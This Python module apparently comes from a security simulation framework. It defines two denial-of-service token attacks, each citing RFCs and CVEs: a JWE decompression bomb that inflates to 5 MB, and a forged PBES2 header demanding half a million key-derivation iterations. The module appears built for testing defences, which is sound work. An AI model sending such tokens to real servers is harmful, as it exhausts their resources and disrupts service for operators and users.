"""Denial of service by one encrypted token that takes a server far more bytes or iterations than the attacker."""

from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack, send
from simlib.scenario.effects import Answer, Context, Flow
from simlib.scenario.messages import HttpRequest
from simlib.tokens import encrypt_text
from simlib.tokens.forging import forge_pbes2_token

ITERATIONS = 500_000
INFLATED_BYTES = 5_000_000
"""DEFLATE reduces it to a thousandth, which fits into a header."""


class DecompressionBomb(TokenAttack):
    """Small encrypted token that expands to a large one.

    Encryption hides the content from every party but the target.
    """

    name: ClassVar[str] = "decompression_bomb"
    summary: ClassVar[str] = "an encrypted token that is compressed a thousandfold"
    source: ClassVar[str] = "RFC 8725 section 3.6; CVE-2024-33664, CVE-2024-21319"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
    single_use: ClassVar[bool] = True
    work_threshold: ClassVar[int] = 1_000_000

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Compress and encrypt the content."""
        yield from ()
        if self.assets.encryption_jwk is None:
            return NotApplicable("no tokens are decrypted here")
        bomb = encrypt_text(b"A" * INFLATED_BYTES, self.assets.encryption_jwk, compressed=True)
        return (Candidate(f"{len(bomb):,} bytes that become {INFLATED_BYTES:,}", bomb),)

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send it as a bearer token."""
        return send("api", HttpRequest(f"Bearer {candidate.value}"))


class PasswordWork(TokenAttack):
    """Encrypted token whose key derivation takes long before it can be refused.

    PBES2 lets the sender set the number of iterations of PBKDF2 that the receiver does.
    """

    name: ClassVar[str] = "password_work"
    summary: ClassVar[str] = "an encrypted token whose header requires half a million iterations (PBES2)"
    source: ClassVar[str] = "RFC 7518 section 8.1, RFC 8725 section 3.2; CVE-2022-36083, CVE-2023-52428"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
    single_use: ClassVar[bool] = True
    work_threshold: ClassVar[int] = 10_000

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Write the header; the rest of the token is invalid."""
        yield from ()
        if self.assets.encryption_jwk is None:
            return NotApplicable("no tokens are decrypted here")
        return (Candidate(f"{ITERATIONS:,} iterations", forge_pbes2_token(ITERATIONS)),)

    def attempt(self, ctx: Context, candidate: Candidate) -> Flow[Answer]:
        """Send it as a bearer token."""
        return send("api", HttpRequest(f"Bearer {candidate.value}"))
